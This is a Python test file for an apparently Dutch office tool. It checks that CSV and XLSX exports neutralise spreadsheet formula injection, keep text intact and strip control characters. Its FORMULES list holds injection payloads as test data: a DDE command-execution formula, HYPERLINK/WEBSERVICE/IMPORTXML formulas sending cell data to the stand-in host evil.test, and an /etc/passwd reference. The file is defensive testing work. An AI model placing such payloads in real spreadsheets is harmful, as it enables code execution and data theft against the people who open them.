"""Files of lists: no cell is a formula, nothing is lost, and the answer is safe to hand out (S16)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from kantoor.bladen.export import als_csv, als_xlsx, csv_cel
from kantoor.bladen.tekst import MEESTE_TEKENS, is_formule, lees_cel, schoon

FORMULES = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1;"klik")',
    '=WEBSERVICE("http://evil.test/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+31 6 12345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\x01\x02=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2003-1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "-",
    "==1",
]
GEWOON = [
    "'s-Hertogenbosch",
    "Fryslân",
    "a=b",
    "1+1",
    "Vitens; Noord",
    'Hij zei "ja"',
    "regel 1\nregel 2",
    "",
    "#REF!",
    "’s-Gravenhage",
]
ALLES = FORMULES + GEWOON


def lees_csv(inhoud: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("tekst", FORMULES)
def test_csv_cell_does_not_start_as_a_formula(tekst: str) -> None:
    (cel,) = lees_csv(als_csv(["Kop"], [[tekst]]))[1]

    assert (cel[0], is_formule(schoon(tekst))) == ("'", True)


@pytest.mark.parametrize("tekst", ALLES)
def test_csv_round_trip_keeps_the_text(tekst: str) -> None:
    (cel,) = lees_csv(als_csv(["Kop"], [[tekst]]))[1]

    assert lees_cel(cel) == schoon(tekst)


@pytest.mark.parametrize("tekst", [tekst for tekst in GEWOON if tekst])
def test_ordinary_text_gets_nothing_in_front(tekst: str) -> None:
    assert csv_cel(tekst) == tekst


@pytest.mark.parametrize("tekst", [tekst for tekst in ALLES if tekst])
def test_xlsx_cell_is_text_and_keeps_it(tekst: str) -> None:
    blad = load_workbook(io.BytesIO(als_xlsx(["Kop"], [[tekst]]))).active

    cel = blad["A2"]
    assert (cel.data_type, cel.value) == ("s", schoon(tekst))
    assert bool(cel.quotePrefix) is is_formule(schoon(tekst))


def test_headers_are_safe_too() -> None:
    koppen = ["=1+1", "Naam"]

    blad = load_workbook(io.BytesIO(als_xlsx(koppen, []))).active

    assert lees_csv(als_csv(koppen, [])) == [["'=1+1", "Naam"]]
    assert [(cel.data_type, cel.value, cel.font.bold) for cel in blad[1]] == [("s", "=1+1", True), ("s", "Naam", True)]
    assert blad.freeze_panes == "A2"


def test_numbers_dates_and_yes_or_no_have_their_own_form() -> None:
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    rij = [-5, 1.5, date(2026, 7, 1), moment, True, False, None]

    (cellen,) = load_workbook(io.BytesIO(als_xlsx([""] * 7, [rij]))).active.iter_rows(min_row=2, values_only=True)

    assert lees_csv(als_csv([""] * 7, [rij]))[1] == ["-5", "1.5", "2026-07-01", "2026-07-02 00:30:00", "ja", "nee", ""]
    # A spreadsheet keeps one kind of date, with a time of midnight, and an empty text as no value.
    verwacht = (-5, 1.5, datetime(2026, 7, 1), datetime(2026, 7, 2, 0, 30), "ja", "nee", None)  # noqa: DTZ001
    assert cellen == verwacht


def test_control_characters_and_endless_text_are_cut() -> None:
    assert schoon("a\0b\x07c\x1bd\x7fe\x85f\ud800g\uffff") == "abcdefg"
    assert schoon("a\tb\r\nc\rd") == "a b\nc\nd"
    assert len(schoon("x" * 40_000)) == MEESTE_TEKENS


def test_csv_opens_in_a_dutch_spreadsheet() -> None:
    inhoud = als_csv(["Naam", "Kant"], [["Fryslân", "VR"]])

    assert inhoud == '\ufeff"Naam";"Kant"\r\n"Fryslân";"VR"\r\n'.encode()
